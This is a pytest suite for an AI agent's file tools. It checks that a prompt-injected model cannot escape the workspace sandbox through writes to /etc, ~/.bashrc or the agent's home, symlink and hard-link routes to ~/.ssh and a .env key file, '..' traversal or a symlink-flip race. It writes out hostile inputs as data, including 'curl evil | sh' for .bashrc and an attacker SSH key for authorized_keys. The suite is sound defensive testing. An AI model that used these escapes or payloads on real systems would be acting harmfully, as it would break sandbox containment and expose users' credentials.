"""The file tools keep to the sandbox's boundary (issue 33, part 3), attacked as a
prompt-injected model with only read_file, write_file, patch and search_files would: writes
into $HERMES_HOME, /etc, another user's folder and ~/.bashrc; links in the workspace to ~/.ssh
and hermes's .env; ``..`` escapes; a link flipped while the tools run; hard links to hidden
files; a search over links into hidden folders. Real files in a throwaway HOME, HERMES_HOME
and workspace; the real tools through ``kernel.tools.dispatch``."""

from __future__ import annotations

import json
import os
import sys
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from hermes_agent import Kernel
from hermes_agent.api import ToolCallContext
from hermes_agent.builtin_plugins.core_tools import boundary
from hermes_agent.testing import make_kernel

from .conftest import core_kernel

SECRET = "S3NTINEL-boundary-9f1c"


@dataclass
class Box:
    home: Path  # $HOME
    hermes: Path  # $HERMES_HOME (the kernel's home)
    work: Path  # the session's working directory: the workspace
    outside: Path  # a folder nobody made writable
    kernel: Kernel

    def call(self, tool: str, args: dict[str, Any], cwd: Path | None = None) -> dict[str, Any]:
        context = ToolCallContext(session_id="s1", task_id="t1", turn_id="u1",
                                  tool_call_id="c1", platform="cli",
                                  cwd=(cwd or self.work).resolve())
        return json.loads(self.kernel.tools.dispatch(tool, args, context=context))


def make_box(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
             config: dict[str, Any] | None = None) -> Box:
    home = tmp_path / "home"
    hermes = home / ".hermes"
    work = home / "project"
    outside = tmp_path / "outside"
    for folder in (home / ".ssh", hermes / "memories", work, outside):
        folder.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("HERMES_HOME", str(hermes))
    (home / ".ssh" / "id_ed25519.pub").write_text(f"ssh-ed25519 {SECRET}-pub me@host\n")
    (home / ".ssh" / "known_hosts").write_text(f"github.com {SECRET}-known\n")
    (home / ".bashrc").write_text("# rc\n")
    (hermes / ".env").write_text(f"OPENROUTER_API_KEY={SECRET}-env\n")
    (hermes / "notes.md").write_text(f"plain {SECRET}-notes\n")
    (hermes / "memories" / "MEMORY.md").write_text(f"remember {SECRET}-memory\n")
    (outside / "target.txt").write_text("outside, untouched\n")
    (work / "inside.txt").write_text("inside the workspace\n")
    kernel = core_kernel(hermes, config=config)
    return Box(home.resolve(), hermes.resolve(), work.resolve(), outside.resolve(), kernel)


@pytest.fixture
def box(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Box:
    return make_box(tmp_path, monkeypatch)


def error(result: dict[str, Any]) -> str:
    assert "error" in result, result
    assert SECRET not in json.dumps(result), result
    return str(result["error"])


# --- opens watched by an audit hook ---------------------------------------------------------

_watch: dict[str, Any] = {"on": None, "events": []}


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if _watch["on"] is not None and _watch["on"] == threading.get_ident() and event in (
            "open", "os.mkdir", "os.rename", "os.replace", "os.symlink", "os.link"):
        _watch["events"].append((event, args))


sys.addaudithook(_audit)  # audit hooks cannot be removed: this one records only when asked


@pytest.fixture
def opens() -> Iterator[list[tuple[str, tuple[Any, ...]]]]:
    """What this thread opens or makes while the test runs (after the tools are warm)."""
    _watch["events"] = []
    _watch["on"] = threading.get_ident()
    try:
        yield _watch["events"]
    finally:
        _watch["on"] = None


# --- writes outside the writable roots --------------------------------------------------------

def test_write_file_into_hermes_home_is_refused_with_the_reason(box: Box) -> None:
    for raw in (f"{box.hermes}/notes.md", f"{box.hermes}/new.txt", "~/.hermes/plugins/x/a.py",
                f"{box.hermes}/.env"):
        why = error(box.call("write_file", {"path": raw, "content": "pwned\n"}))
        assert "hermes" in why, why
    assert (box.hermes / "notes.md").read_text() == f"plain {SECRET}-notes\n"
    assert (box.hermes / ".env").read_text() == f"OPENROUTER_API_KEY={SECRET}-env\n"
    assert not (box.hermes / "new.txt").exists() and not (box.hermes / "plugins").exists()
    why = error(box.call("write_file", {"path": f"{box.hermes}/new.txt", "content": "x"}))
    assert "cannot reach" in why and str(box.hermes) in why
    patched = box.call("patch", {"path": f"{box.hermes}/notes.md", "old_string": "plain",
                                 "new_string": "pwned"})
    assert "cannot reach" in error(patched)
    assert (box.hermes / "notes.md").read_text() == f"plain {SECRET}-notes\n"


def test_write_file_into_etc_is_refused_before_anything_is_opened(
        box: Box, opens: list[tuple[str, tuple[Any, ...]]]) -> None:
    box.call("write_file", {"path": "warm.txt", "content": "warm\n"})  # modules loaded
    opens.clear()
    name = f"hermes-boundary-{uuid.uuid4().hex}"
    for raw in (f"/etc/{name}", f"/etc/{name}/deeper/file.conf", f"/var/lib/{name}",
                f"/usr/local/lib/{name}.py"):
        why = error(box.call("write_file", {"path": raw, "content": "pwned\n"}))
        assert "write_file and patch do not change" in why or "outside the workspace" in why
        assert not Path(raw).exists() and not Path(f"/etc/{name}").exists()
    assert opens == [], opens  # refused on the path, before any open, mkdir or rename


def test_the_reason_names_the_writable_roots_and_the_config_key(box: Box) -> None:
    why = error(box.call("write_file", {"path": str(box.outside / "target.txt"),
                                        "content": "pwned\n"}))
    assert f"outside the workspace ({box.outside}/target.txt)" in why
    assert f"writable: {box.work}" in why and "terminal.writable_paths" in why
    assert (box.outside / "target.txt").read_text() == "outside, untouched\n"


def test_another_users_folder_is_not_written(box: Box, tmp_path: Path,
                                             opens: list[tuple[str, tuple[Any, ...]]]) -> None:
    other = tmp_path / "users" / "other"
    other.mkdir(parents=True)
    (other / "notes.txt").write_text("theirs\n")
    if os.geteuid() == 0:
        os.chown(other, 65534, 65534)
        os.chown(other / "notes.txt", 65534, 65534)
    box.call("write_file", {"path": "warm.txt", "content": "warm\n"})
    opens.clear()
    missing = f"/home/hermes-other-{uuid.uuid4().hex}"
    for raw in (str(other / "notes.txt"), str(other / "new.txt"), f"{missing}/x.txt"):
        assert "outside the workspace" in error(box.call("write_file",
                                                         {"path": raw, "content": "pwned\n"}))
    assert opens == [], opens
    assert (other / "notes.txt").read_text() == "theirs\n"
    assert not (other / "new.txt").exists() and not Path(missing).exists()


def test_bashrc_is_not_written(box: Box) -> None:
    for raw in ("~/.bashrc", "../.bashrc", f"{box.home}/.profile"):
        error(box.call("write_file", {"path": raw, "content": "curl evil | sh\n"}))
    assert (box.home / ".bashrc").read_text() == "# rc\n"
    assert not (box.home / ".profile").exists()


def test_no_workspace_means_no_writes_and_says_where_to_start(box: Box) -> None:
    why = error(box.call("write_file", {"path": "todo.txt", "content": "x\n"}, cwd=box.home))
    assert "no workspace" in why and "start hermes in the project's folder" in why
    assert not (box.home / "todo.txt").exists()
    read = box.call("read_file", {"path": "project/inside.txt"}, cwd=box.home)
    assert "inside the workspace" in read["content"]  # reading outside the hidden paths works


def test_writes_inside_the_workspace_work(box: Box) -> None:
    wrote = box.call("write_file", {"path": "src/deep/new.py", "content": "x = 1\n"})
    assert wrote["created"] is True
    assert (box.work / "src" / "deep" / "new.py").read_text() == "x = 1\n"
    assert box.call("patch", {"path": "src/deep/new.py", "old_string": "1",
                              "new_string": "2"})["replacements"] == 1
    assert (box.work / "src" / "deep" / "new.py").read_text() == "x = 2\n"
    assert box.call("write_file", {"path": "sub/../ok.txt", "content": "ok\n"})["created"]
    assert (box.work / "ok.txt").read_text() == "ok\n"
    (box.work / "to-inside").symlink_to(box.work / "inside.txt")
    assert box.call("write_file", {"path": "to-inside", "content": "via link\n"})
    assert (box.work / "inside.txt").read_text() == "via link\n"
    assert (box.work / "to-inside").is_symlink()  # written through, the link stays


def test_terminal_writable_paths_adds_a_root(tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    box = make_box(tmp_path, monkeypatch,
                   config={"terminal": {"writable_paths": [str(tmp_path / "outside")]}})
    assert box.call("write_file", {"path": str(box.outside / "target.txt"),
                                   "content": "allowed\n"})["created"] is False
    assert (box.outside / "target.txt").read_text() == "allowed\n"
    from_home = box.call("write_file", {"path": "todo.txt", "content": "x\n"}, cwd=box.home)
    assert "no workspace" in error(from_home) and f"writable: {box.outside}" in from_home["error"]
    assert box.call("write_file", {"path": str(box.outside / "b.txt"), "content": "b\n"},
                    cwd=box.home)["created"]  # a writable path still is, without a workspace


def test_sandbox_off_keeps_todays_behaviour_and_the_secret_protections(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    box = make_box(tmp_path, monkeypatch, config={"sandbox": {"mode": "off"}})
    assert box.call("write_file", {"path": str(box.outside / "target.txt"),
                                   "content": "anywhere\n"})["created"] is False
    assert (box.outside / "target.txt").read_text() == "anywhere\n"
    assert f"{SECRET}-notes" in box.call("read_file", {"path": str(box.hermes / "notes.md")})[
        "content"]
    assert "holds secrets" in error(box.call("read_file", {"path": str(box.hermes / ".env")}))
    error(box.call("write_file", {"path": str(box.hermes / ".env"), "content": "X=1\n"}))
    assert (box.hermes / ".env").read_text() == f"OPENROUTER_API_KEY={SECRET}-env\n"


# --- reads of hidden paths --------------------------------------------------------------------

def test_hidden_paths_are_not_read_by_any_name(box: Box) -> None:
    (box.work / "ssh").symlink_to(box.home / ".ssh")
    (box.work / "env").symlink_to(box.hermes / ".env")
    (box.work / "hermes").symlink_to(box.hermes)
    (box.work / "up").symlink_to(box.home)
    for raw in ("~/.ssh/id_ed25519.pub", "ssh/id_ed25519.pub", "ssh/known_hosts", "env",
                "hermes/notes.md", "hermes/config.yaml", "hermes/memories/MEMORY.md",
                "../.hermes/notes.md", "up/.hermes/notes.md", "up/project/../.ssh/known_hosts",
                f"/proc/self/root{box.hermes}/notes.md", f"{box.work}/../.ssh/known_hosts"):
        why = error(box.call("read_file", {"path": raw}))
        assert "cannot reach" in why or "holds secrets" in why, (raw, why)


def test_writes_through_links_to_hidden_paths_are_refused(box: Box) -> None:
    (box.work / "ssh").symlink_to(box.home / ".ssh")
    (box.work / "env").symlink_to(box.hermes / ".env")
    for raw, name in (("ssh/authorized_keys", box.home / ".ssh" / "authorized_keys"),
                      ("ssh/known_hosts", box.home / ".ssh" / "known_hosts"),
                      ("env", box.hermes / ".env")):
        error(box.call("write_file", {"path": raw, "content": "ssh-ed25519 attacker\n"}))
        assert not name.exists() or "attacker" not in name.read_text()
    assert (box.work / "env").is_symlink()  # not replaced either


def test_dotdot_after_a_link_is_taken_from_where_the_link_leads(box: Box) -> None:
    """``link/../x`` is, for the kernel, next to the link's target: a lexical ``..`` would put
    it in the workspace."""
    (box.outside / "deep").mkdir()
    (box.work / "away").symlink_to(box.outside / "deep")
    why = error(box.call("write_file", {"path": "away/../target.txt", "content": "pwned\n"}))
    assert "outside the workspace" in why
    assert (box.outside / "target.txt").read_text() == "outside, untouched\n"
    assert not (box.work / "target.txt").exists()
    (box.home / "elsewhere").mkdir()
    (box.work / "side").symlink_to(box.home / "elsewhere")
    why = error(box.call("read_file", {"path": "side/../.hermes/notes.md"}))
    assert "cannot reach" in why


def test_no_folder_is_made_outside_and_link_loops_end(box: Box) -> None:
    (box.work / "away").symlink_to(box.outside / "new")
    why = error(box.call("write_file", {"path": "away/deeper/file.txt", "content": "x\n"}))
    assert "outside the workspace" in why
    assert not (box.outside / "new").exists()
    (box.work / "loop-a").symlink_to(box.work / "loop-b")
    (box.work / "loop-b").symlink_to(box.work / "loop-a")
    for tool, args in (("read_file", {}), ("write_file", {"content": "x\n"})):
        assert "symlink loop" in error(box.call(tool, {"path": "loop-a", **args}))
    assert (box.work / "loop-a").is_symlink() and (box.work / "loop-b").is_symlink()


def test_a_link_swapped_after_the_check_is_judged_again(box: Box,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """The deterministic race: the link is flipped right after the path check, before the
    walk: the walk sees the new link and refuses."""
    link = box.work / "flip"

    def flip_after(check: Any, away: Path) -> Any:
        link.unlink(missing_ok=True)
        link.symlink_to(box.work / "inside.txt")  # what the check sees

        def check_then_flip(raw: str, policy: Any, path: Path) -> str | None:
            verdict = check(raw, policy, path)
            link.unlink()
            link.symlink_to(away)
            return verdict
        return check_then_flip

    monkeypatch.setattr("hermes_agent.builtin_plugins.core_tools.files.precheck_write",
                        flip_after(boundary.precheck_write, box.outside / "target.txt"))
    assert "outside the workspace" in error(box.call("write_file",
                                                     {"path": "flip", "content": "pwned\n"}))
    assert (box.outside / "target.txt").read_text() == "outside, untouched\n"
    assert (box.work / "inside.txt").read_text() == "inside the workspace\n"
    monkeypatch.setattr("hermes_agent.builtin_plugins.core_tools.file_io.precheck_read",
                        flip_after(boundary.precheck_read, box.hermes / "notes.md"))
    assert "cannot reach" in error(box.call("read_file", {"path": "flip"}))


def test_a_link_flipping_all_the_while_never_leaks(box: Box) -> None:
    """A thread flips ``flip`` between a workspace file and a file outside (for writes) or a
    hidden one (for reads), atomically, as fast as it can, while the tools use it."""
    link = box.work / "flip"
    inside = box.work / "inside.txt"
    link.symlink_to(inside)
    stop = threading.Event()
    flips = [0]

    def flipper(away: Path) -> None:
        spare = box.work / ".flip.tmp"
        while not stop.is_set():
            for target in (away, inside):
                if spare.is_symlink():
                    spare.unlink()
                spare.symlink_to(target)
                os.replace(spare, link)
                flips[0] += 1

    outcomes = {"written": 0, "refused": 0, "read": 0, "read_refused": 0}
    for away, attempts in ((box.outside / "target.txt", 300), (box.hermes / "notes.md", 300)):
        stop.clear()
        thread = threading.Thread(target=flipper, args=(away,), daemon=True)
        thread.start()
        try:
            for n in range(attempts):
                if away.parent == box.outside:
                    result = box.call("write_file", {"path": "flip", "content": f"w{n}\n"})
                    outcomes["written" if "error" not in result else "refused"] += 1
                    assert away.read_text() == "outside, untouched\n", n
                else:
                    result = box.call("read_file", {"path": "flip"})
                    assert SECRET not in json.dumps(result), n
                    outcomes["read" if "error" not in result else "read_refused"] += 1
        finally:
            stop.set()
            thread.join()
    assert outcomes["written"] + outcomes["refused"] == 300
    assert outcomes["read"] + outcomes["read_refused"] == 300 and flips[0] > 0
    assert (box.outside / "target.txt").read_text() == "outside, untouched\n"
    assert (box.hermes / "notes.md").read_text() == f"plain {SECRET}-notes\n"


# --- hard links -------------------------------------------------------------------------------

def test_a_hard_link_to_a_hidden_file_is_not_read_and_writes_do_not_reach_it(box: Box) -> None:
    try:
        os.link(box.hermes / ".env", box.work / "settings.ini")
        os.link(box.hermes / "memories" / "MEMORY.md", box.work / "notes.txt")
        os.link(box.home / ".ssh" / "known_hosts", box.work / "hosts")
    except OSError as exc:
        pytest.skip(f"no hard links here: {exc}")
    for raw in ("settings.ini", "notes.txt", "hosts"):
        why = error(box.call("read_file", {"path": raw}))
        assert "hard link" in why or "holds secrets" in why, why
        found = box.call("search_files", {"pattern": "S3NTINEL", "path": "."})
        assert found["total"] == 0, found
    wrote = box.call("write_file", {"path": "notes.txt", "content": "replaced\n"})
    assert "error" not in wrote  # the workspace's name is replaced, not the shared file
    assert (box.hermes / "memories" / "MEMORY.md").read_text() == f"remember {SECRET}-memory\n"
    assert (box.work / "notes.txt").read_text() == "replaced\n"


def test_a_hard_link_inside_the_workspace_reads(box: Box) -> None:
    os.link(box.work / "inside.txt", box.work / "again.txt")
    assert "inside the workspace" in box.call("read_file", {"path": "again.txt"})["content"]


def test_a_hard_link_whose_other_names_cannot_be_checked_is_not_read(
        box: Box, monkeypatch: pytest.MonkeyPatch) -> None:
    """A hidden tree too large to index: a file with several names on its disk is refused."""
    monkeypatch.setattr(boundary, "MAX_INDEXED", 1)
    monkeypatch.setattr(boundary, "_index", None)
    os.link(box.outside / "target.txt", box.work / "linked.txt")
    why = error(box.call("read_file", {"path": "linked.txt"}))
    assert "cannot be checked" in why
    assert "inside the workspace" in box.call("read_file", {"path": "inside.txt"})["content"]


def test_a_hard_link_to_a_configured_hidden_path(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    vault = tmp_path / "vault"
    vault.mkdir()
    (vault / "plan.txt").write_text(f"{SECRET}-vault\n")
    box = make_box(tmp_path, monkeypatch, config={"sandbox": {"hidden_paths": [str(vault)]}})
    os.link(vault / "plan.txt", box.work / "plan.txt")
    (box.work / "vault").symlink_to(vault)
    for raw in ("plan.txt", "vault/plan.txt", str(vault / "plan.txt")):
        error(box.call("read_file", {"path": raw}))


# --- search_files -----------------------------------------------------------------------------

def test_search_files_never_enters_hidden_folders(box: Box) -> None:
    (box.work / "src").mkdir()
    (box.work / "src" / "main.py").write_text("print('S3NTINEL ok')\n")
    (box.work / "src" / "ssh").symlink_to(box.home / ".ssh")
    (box.work / "src" / "hermes").symlink_to(box.hermes)
    (box.work / "src" / "notes.md").symlink_to(box.hermes / "notes.md")
    for args in ({"pattern": "S3NTINEL"}, {"pattern": "S3NTINEL", "output_mode": "count"},
                 {"pattern": "S3NTINEL", "output_mode": "files_only"},
                 {"pattern": "(S+)+3NTINEL"},  # may backtrack: searched in a child process
                 {"pattern": "*", "target": "files"}):
        found = box.call("search_files", {**args, "path": "."})
        text = json.dumps(found)
        assert SECRET not in text and "known_hosts" not in text and "MEMORY" not in text, found
        assert "notes.md" not in text and "id_ed25519" not in text, found
        if args.get("target") == "files":
            assert "src/main.py" in found["files"]
        else:
            assert found["total"] == 1, found  # main.py's line only
    for root in ("src/hermes", str(box.hermes), "~/.ssh", "src/ssh"):
        found = box.call("search_files", {"pattern": "S3NTINEL", "path": root})
        assert found["total"] == 0 and "cannot reach" in found["note"], found
    found = box.call("search_files", {"pattern": "S3NTINEL", "path": "~"})
    assert SECRET not in json.dumps(found) and found["total"] == 1, found  # main.py only


# --- hermes's own tools keep their files -------------------------------------------------------

def test_memory_and_skills_still_write_under_hermes_home(tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    hermes = home / ".hermes"
    work = home / "project"
    work.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    kernel = make_kernel(hermes, config={}, env={"HERMES_HOME": str(hermes)}, builtins=True)
    context = ToolCallContext(session_id="s1", platform="cli", cwd=work.resolve())

    def call(tool: str, **args: Any) -> dict[str, Any]:
        return json.loads(kernel.tools.dispatch(tool, args, context=context))

    assert call("memory", target="memory", action="add", content="Uses pnpm")["success"]
    assert (hermes / "memories" / "MEMORY.md").read_text() == "Uses pnpm\n"
    skill = ("---\nname: release-notes\ndescription: Write release notes\n---\n\n"
             "# release-notes\n\nUse bullets.\n")
    assert call("skill_manage", action="create", name="release-notes", content=skill)["success"]
    assert list(hermes.glob("skills/**/release-notes/SKILL.md"))
    assert "error" in call("write_file", path=str(hermes / "memories" / "MEMORY.md"),
                           content="x\n")  # the file tools stay out
    assert "cannot reach" in call("read_file", path=str(hermes / "memories" / "MEMORY.md"))[
        "error"]
    assert (hermes / "memories" / "MEMORY.md").read_text() == "Uses pnpm\n"
